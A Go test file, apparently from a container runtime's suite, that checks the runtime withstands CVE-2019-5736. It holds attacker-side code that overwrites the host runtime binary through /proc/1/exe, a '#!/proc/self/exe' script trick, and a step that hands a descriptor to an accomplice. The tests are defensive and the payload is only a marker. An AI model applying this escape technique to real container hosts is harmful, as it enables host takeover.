package attacks

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"glassbox/test/bundle"
	"glassbox/test/need"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
)

// The attack of CVE-2019-5736: a container has the runtime's own program executed inside, by /proc/self/exe as its program, as a script's
// interpreter or as the command of an exec. Through /proc/PID/exe it takes hold of the file, and writes it, at once or when
// the runtime has ended and the file is no longer busy. The next container is then the attacker's, on the host.

// ownRuntime is a copy of glassrun for the test to lose.
func ownRuntime(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	copyFile(t, filepath.Join(need.Programs(t), "glassrun"), filepath.Join(dir, "glassrun"))
	t.Setenv("GLASSBOX_BIN", dir)
	return filepath.Join(dir, "glassrun")
}

// unharmed fails the test if the file has changed; and unless it could have been written by whoever holds it by its ordinary path.
func unharmed(t *testing.T, path string) {
	t.Helper()
	was, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if is, _ := os.ReadFile(path); string(is) != string(was) {
			t.Errorf("%s was overwritten", path)
		}
		f, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err != nil {
			t.Errorf("nobody could have written %s: %v", path, err)
			return
		}
		f.Close()
	})
}

// TestOverwrittenEntrypoint: the container's program is /proc/self/exe: glassrun as its PID 1, with a hostile child.
func TestOverwrittenEntrypoint(t *testing.T) {
	unharmed(t, ownRuntime(t))
	b := bundle.New(t)
	script(t, b, "/bin/evil")
	a := foreground(t, b, "/proc/self/exe", "init", "--", "/bin/attack", "overwrite")
	withstood(t, a.Out, "held writing the runtime through /proc/1/exe: text file busy", "held writing the runtime through what is held")
	for _, args := range [][]string{{"/proc/self/exe", "run", "x"}, {"/bin/evil"}, {"/proc/self/exe"}} {
		a := foreground(t, b, args...)
		if strings.Contains(a.Out, "ESCAPED") {
			t.Errorf("%v: %s", args, a.Out)
		}
	}
}

// script makes a program of the image's whose interpreter is whoever executes it.
func script(t *testing.T, b *bundle.Bundle, path string) {
	t.Helper()
	if err := os.WriteFile(b.Root(path), []byte("#!/proc/self/exe\n"), 0o755); err != nil {
		t.Fatal(err)
	}
}

// TestOverwrittenByExec: PID 1 is hostile and waits for execs, in which glassrun runs for a moment, or for as long as it likes.
func TestOverwrittenByExec(t *testing.T) {
	unharmed(t, ownRuntime(t))
	b := bundle.New(t)
	script(t, b, "/bin/evil")
	said := detach(t, b, "/bin/attack", "watch", "exe")
	for range 5 {
		bundle.Glassrun(t, b.Global("exec", b.ID, "/bin/evil")...)
	}
	bundle.Glassrun(t, b.Global("exec", b.ID, "/proc/self/exe", "init", "--", "/bin/sleep", "1")...)
	waitFor(t, said, "held writing the runtime through what is held: read-only file system")
	withstood(t, said())
}

// TestOverwrittenLater: the attacker's descriptor outlives the container and every glassrun. It goes to an accomplice, as which the
// test acts: the file is busy no more, and what says no now is the mount by which it is held.
func TestOverwrittenLater(t *testing.T) {
	unharmed(t, ownRuntime(t))
	b := bundle.New(t)
	dir := t.TempDir()
	b.Spec.Mounts = append(b.Spec.Mounts, specs.Mount{Destination: "/mnt", Type: "bind", Source: dir, Options: []string{"bind"}})
	accomplice, err := unix.Socket(unix.AF_UNIX, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err == nil {
		err = unix.Bind(accomplice, &unix.SockaddrUnix{Name: dir + "/socket"})
	}
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(accomplice)
	a := foreground(t, b, "/proc/self/exe", "init", "--", "/bin/attack", "overwrite", "/mnt/socket")
	withstood(t, a.Out, "held writing", "gave away /proc/1/exe")
	fd := received(t, accomplice)
	defer unix.Close(fd)
	path := "/proc/self/fd/" + strconv.Itoa(fd)
	if to, _ := os.Readlink(path); filepath.Base(to) != "glassrun" && to != "/" {
		t.Errorf("what the attacker gave away is %s", to)
	}
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err == nil {
		f.Close()
	}
	if !errors.Is(err, unix.EROFS) {
		t.Errorf("opening glassrun's file for writing, when no glassrun runs: %v, want %v", err, unix.EROFS)
	}
}

// received takes the descriptor that the attacker has sent.
func received(t *testing.T, socket int) int {
	t.Helper()
	oob := make([]byte, unix.CmsgSpace(4))
	_, n, _, _, err := unix.Recvmsg(socket, make([]byte, 1), oob, unix.MSG_DONTWAIT|unix.MSG_CMSG_CLOEXEC)
	if err != nil {
		t.Fatal(err)
	}
	messages, err := unix.ParseSocketControlMessage(oob[:n])
	if err != nil || len(messages) != 1 {
		t.Fatalf("%d messages: %v", len(messages), err)
	}
	fds, err := unix.ParseUnixRights(&messages[0])
	if err != nil {
		t.Fatal(err)
	}
	return fds[0]
}

// overwrite writes PID 1's program, if that is not the container's, and gives the descriptor to an accomplice if there is one.
func overwrite(args []string) {
	fd := write("/proc/1/exe")
	if fd < 0 || len(args) == 0 {
		return
	}
	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
	if err == nil {
		err = unix.Sendmsg(s, []byte("x"), unix.UnixRights(fd), &unix.SockaddrUnix{Name: args[0]}, 0)
	}
	if err != nil {
		held("giving it away", err)
		return
	}
	fmt.Println("gave away /proc/1/exe")
}

// write tries to write the file of a process, and returns what it holds of it; -1 if that is nothing, or a file of the container's. A file
// that is being executed is busy, whoever asks (execve(2), ETXTBSY): what counts is the answer when it is not.
func write(exe string) int {
	fd, err := unix.Open(exe, unix.O_PATH, 0)
	if err != nil {
		held("taking hold of "+exe, err)
		return -1
	}
	if inside(fd) {
		unix.Close(fd)
		return -1
	}
	overwriteFile(exe, "through "+exe)
	overwriteHeld(fd)
	return fd
}

func overwriteHeld(fd int) { overwriteFile("/proc/self/fd/"+strconv.Itoa(fd), "through what is held") }

func overwriteFile(path, how string) {
	fd, err := unix.Open(path, unix.O_WRONLY, 0)
	if err == nil {
		unix.Write(fd, []byte("#!ESCAPED\n")) //nolint:errcheck // opening it was all that counts
		unix.Close(fd)
	}
	tried("writing the runtime "+how, err)
}

// inside says whether a file is the container's own: what is found there by its name is the same.
func inside(fd int) bool {
	var held, found unix.Stat_t
	name, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
	return err == nil && unix.Fstat(fd, &held) == nil && unix.Stat(name, &found) == nil && held.Ino == found.Ino && held.Dev == found.Dev
}
